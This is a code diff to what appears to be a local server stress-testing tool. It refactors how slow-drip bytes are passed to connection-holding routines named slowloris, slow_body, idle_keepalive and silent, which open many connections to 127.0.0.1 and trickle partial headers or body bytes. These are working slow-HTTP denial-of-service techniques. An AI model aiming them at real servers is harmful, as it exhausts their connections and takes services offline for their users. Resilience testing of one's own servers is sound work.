@@ -261,9 +261,12 @@ async def _many(
     stop: asyncio.Event,
     count: int,
     first: bytes,
-    tick: Callable[[], bytes] | None,
+    drip: bytes,
 ) -> None:
-    """Open ``count`` connections (100 connecting at a time), send ``first``, hold them all."""
+    """Open ``count`` connections (100 connecting at a time), send ``first``, hold them all.
+
+    With ``drip``, each connection then sends it a byte a second, from its own start.
+    """
     gate = asyncio.Semaphore(100)
     tried = 0
 
@@ -284,7 +287,7 @@ async def _many(
             if first:
                 writer.write(first)
                 conn.requests = 1
-            await _hold(reader, writer, conn, t0, stop, tick)
+            await _hold(reader, writer, conn, t0, stop, _drip(drip) if drip else None)
         except OSError as exc:
             conn.error = f"{exc.strerror or exc}"
         finally:
@@ -318,21 +321,21 @@ def _drip(text: bytes) -> Callable[[], bytes]:
 async def silent(
     peer: Peer, conns: list[Conn], t0: float, ready: asyncio.Event, stop: asyncio.Event, note: list[str]
 ) -> None:
-    await _many(peer, conns, t0, ready, stop, ATTACKS["silent"][1], b"", None)
+    await _many(peer, conns, t0, ready, stop, ATTACKS["silent"][1], b"", b"")
 
 
 async def idle_keepalive(
     peer: Peer, conns: list[Conn], t0: float, ready: asyncio.Event, stop: asyncio.Event, note: list[str]
 ) -> None:
     request = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
-    await _many(peer, conns, t0, ready, stop, ATTACKS["idle-keepalive"][1], request, None)
+    await _many(peer, conns, t0, ready, stop, ATTACKS["idle-keepalive"][1], request, b"")
 
 
 async def slowloris(
     peer: Peer, conns: list[Conn], t0: float, ready: asyncio.Event, stop: asyncio.Event, note: list[str]
 ) -> None:
     first = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n"
-    await _many(peer, conns, t0, ready, stop, ATTACKS["slowloris"][1], first, _drip(b"X-Slow: a\r\n"))
+    await _many(peer, conns, t0, ready, stop, ATTACKS["slowloris"][1], first, b"X-Slow: a\r\n")
 
 
 async def slow_body(
@@ -342,7 +345,7 @@ async def slow_body(
         b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/octet-stream\r\n"
         b"Content-Length: 100000\r\n\r\n"
     )
-    await _many(peer, conns, t0, ready, stop, ATTACKS["slow-body"][1], head, _drip(b"x"))
+    await _many(peer, conns, t0, ready, stop, ATTACKS["slow-body"][1], head, b"x")
 
 
 MANY_HEADERS = (
